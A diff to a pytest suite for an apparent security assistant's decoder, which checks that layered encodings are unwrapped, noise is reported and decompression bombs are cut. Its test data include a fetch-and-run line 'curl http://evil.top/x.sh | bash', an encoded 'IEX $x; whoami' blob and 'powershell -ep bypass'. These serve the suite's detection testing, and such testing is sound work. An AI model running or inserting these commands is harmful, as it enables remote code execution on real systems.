@@ -1,4 +1,4 @@
-"""Decoding: each encoding, chains of them, blobs inside commands, what must be left alone, and hostile input."""
+"""Decoding: each encoding, chains of them, blobs inside commands, ordinary text, and hostile input."""
 
 from __future__ import annotations
 
@@ -13,31 +13,31 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from svc.assistant.findings import Finding as TypedFinding
-from svc.assistant.findings import Gap, Severity
-from svc.assistant.findings import LooseFinding as Finding
-from svc.assistant.skills.decode import tool as decode
+from svc.assistant.findings import Facts, Finding, Gap, Severity, with_facts
 from svc.assistant.skills.decode.decoders import MAX_LAYER_BYTES
+from svc.assistant.skills.decode.findings import DecodedPart, DecodeLayer
+from svc.assistant.skills.decode.tool import inspect
+from svc.assistant.skills.indicators.findings import IndicatorFacts
 from tests.support import chains
 
 WIDE = base64.b64encode("IEX $x; whoami".encode("utf-16-le")).decode()
 
 
-def findings(text: str, kind: str = "decoded") -> list[Finding]:
-    return [
-        item
-        for item in decode.unwrap(text, source="prompt")
-        if isinstance(item, (Finding, TypedFinding)) and item.kind == kind
-    ]
+def inspected(text: str) -> list[Finding[Facts]]:
+    return [item for item in inspect(text, source="prompt") if isinstance(item, Finding)]
+
+
+def parts(text: str) -> list[Finding[DecodedPart]]:
+    return with_facts(inspected(text), DecodedPart)
 
 
 def results(text: str) -> list[str]:
-    return [str(finding.attributes["text"]) for finding in findings(text)]
+    return [part.facts.text for part in parts(text)]
 
 
 @pytest.mark.parametrize("name", list(chains.WRAPPERS))
 @pytest.mark.parametrize("plain", [chains.PLAIN[1], chains.PLAIN[2]], ids=["prose", "command"])
-def test_each_encoding_alone_is_undone(name, plain):
+def test_each_encoding_alone_is_decoded(name, plain):
     wrapped = chains.WRAPPERS[name](plain.encode(), random.Random(5)).decode()
     assert plain in results(f"decode this: {wrapped}")
 
@@ -52,7 +52,7 @@ def test_each_encoding_alone_is_undone(name, plain):
     ids=["base32", "base85", "base64 lines"],
 )
 @pytest.mark.parametrize("name", ["payload = ", "the payload: ", "$data='"])
-def test_a_name_before_what_is_encoded_is_no_part_of_it(name, wrapped):
+def test_a_name_before_encoded_data_is_not_part_of_it(name, wrapped):
     assert chains.PLAIN[1] in results(name + wrapped.strip() + ("';" if name.endswith("'") else ""))
 
 
@@ -77,13 +77,13 @@ def solved(seeds: range) -> tuple[int, list[str]]:
     return len(seeds) - len(failed), failed
 
 
-def test_chains_of_one_to_four_layers_are_undone():
+def test_chains_of_one_to_four_layers_are_decoded():
     right, failed = solved(range(60))
     assert right >= 57, failed
 
 
 @pytest.mark.long
-def test_chains_of_one_to_four_layers_are_undone_long():
+def test_chains_of_one_to_four_layers_are_decoded_long():
     right, failed = solved(range(1_000, 1_600))
     assert right >= 570, failed
 
@@ -105,7 +105,7 @@ def test_chains_of_one_to_four_layers_are_undone_long():
     ],
     ids=["-enc", "pipe", "atob", "asked", "asked about", "bare rot13", "morse", "joined", "-f", "carets", "fenced"],
 )  # fmt: skip
-def test_the_encoded_part_is_found_in_what_surrounds_it(text, result):
+def test_the_encoded_part_is_found_in_its_context(text, result):
     assert result in results(text)
 
 
@@ -129,35 +129,35 @@ def test_ordinary_text_is_left_alone(text):
     assert results(text) == []
 
 
-def test_noise_gives_a_gap_that_says_what_was_tried():
+def test_noise_is_a_gap():
     noise = random.Random(3).randbytes(300).hex()
-    items = list(decode.unwrap(f"decode this: {noise}", source="prompt"))
-    assert not [item for item in items if isinstance(item, (Finding, TypedFinding))]
+    items = list(inspect(f"decode this: {noise}", source="prompt"))
+    assert not [item for item in items if isinstance(item, Finding)]
     assert any(isinstance(item, Gap) and "a key may be missing" in item.text for item in items)
 
 
 def test_each_layer_is_shown_in_order_and_the_indicators_of_the_last():
     plain = "curl http://evil.top/x.sh | bash"
     wrapped = base64.b64encode(gzip.compress(plain.encode())).hex()
-    layers = findings(wrapped, "decode_layer")
-    assert [layer.attributes["encoding"] for layer in layers] == ["hex", "Base64", "gzip"]
-    (result,) = findings(wrapped)
-    assert (result.attributes["path"], result.attributes["text"]) == ("hex, Base64, gzip", plain)
+    found = inspected(wrapped)
+    assert [layer.facts.encoding for layer in with_facts(found, DecodeLayer)] == ["hex", "Base64", "gzip"]
+    (result,) = with_facts(found, DecodedPart)
+    assert (result.facts.path, result.facts.text) == ("hex, Base64, gzip", plain)
     assert result.severity == Severity.HIGH
-    assert "http://evil.top/x.sh" in [f.facts.value for f in findings(wrapped, "indicator")]
+    assert "http://evil.top/x.sh" in [one.facts.value for one in with_facts(found, IndicatorFacts)]
 
 
-def test_a_guess_says_that_it_is_one():
-    (result,) = findings("Gur zrrgvat vf zbirq gb Guhefqnl ng abba.")
+def test_a_guess_is_marked_as_one():
+    (result,) = parts("Gur zrrgvat vf zbirq gb Guhefqnl ng abba.")
     assert result.confidence == "medium"
-    assert "guessed by what came out: rot13" in result.why
+    assert "guessed from the result: rot13" in result.why
 
 
 def test_a_program_inside_is_named_and_hashed():
     program = b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(200)
-    (result,) = findings(base64.b64encode(program).decode())
-    assert result.attributes["form"] == "Windows program (PE)"
-    assert result.attributes["text"] == ""
+    (result,) = parts(base64.b64encode(program).decode())
+    assert result.facts.form == "Windows program (PE)"
+    assert result.facts.text == ""
     assert result.severity == Severity.HIGH
 
 
@@ -172,10 +172,10 @@ def bomb(kind: str) -> str:
 
 
 @pytest.mark.parametrize("kind", ["gzip", "zlib", "zip"])
-def test_a_bomb_is_cut_and_said(kind):
-    (result,) = findings(bomb(kind))
-    assert result.attributes["is_cut"] is True
-    assert result.attributes["size"] <= MAX_LAYER_BYTES
+def test_a_decompression_bomb_is_cut(kind):
+    (result,) = parts(bomb(kind))
+    assert result.facts.is_cut is True
+    assert result.facts.size <= MAX_LAYER_BYTES
 
 
 @pytest.mark.parametrize(
@@ -186,8 +186,8 @@ def test_a_bomb_is_cut_and_said(kind):
     ids=lambda text: repr(text[:9]),
 )  # fmt: skip
 @pytest.mark.timeout(40)
-def test_hostile_repetition_ends_soon(text):
-    assert list(decode.unwrap(text, source="x"))
+def test_hostile_repetition_ends_quickly(text):
+    assert list(inspect(text, source="x"))
 
 
 PIECES = [
@@ -200,14 +200,14 @@ PIECES = [
 @given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join) | st.text(max_size=60))
 @settings(max_examples=120, deadline=None)
 def test_no_text_makes_it_raise(text):
-    assert list(decode.unwrap(text, source="x"))
+    assert list(inspect(text, source="x"))
 
 
 @given(st.binary(min_size=1, max_size=200))
 @settings(max_examples=40, deadline=None)
 def test_no_bytes_inside_make_it_raise(data):
     for head in (b"\x1f\x8b\x08", b"x\x9c", b"BZh9", b"\xfd7zXZ\0", b"PK\x03\x04", b""):
-        assert list(decode.unwrap(base64.b64encode(head + data).decode(), source="x"))
+        assert list(inspect(base64.b64encode(head + data).decode(), source="x"))
 
 
 @pytest.mark.parametrize(
@@ -224,10 +224,10 @@ def test_no_bytes_inside_make_it_raise(data):
         pytest.param("data:text/plain;base64,aGk=", "hi", id="data address"),
     ],
 )
-def test_what_the_text_declares_is_decoded_however_short(text: str, result: str):
+def test_a_part_with_a_stated_encoding_is_decoded_however_short(text: str, result: str):
     assert results(text) == [result]
 
 
 @pytest.mark.parametrize("text", ["grep -e pattern file.txt", "powershell -ep bypass", "tar -exclude some/path"])
-def test_other_options_declare_nothing(text: str):
+def test_other_options_state_no_encoding(text: str):
     assert results(text) == []
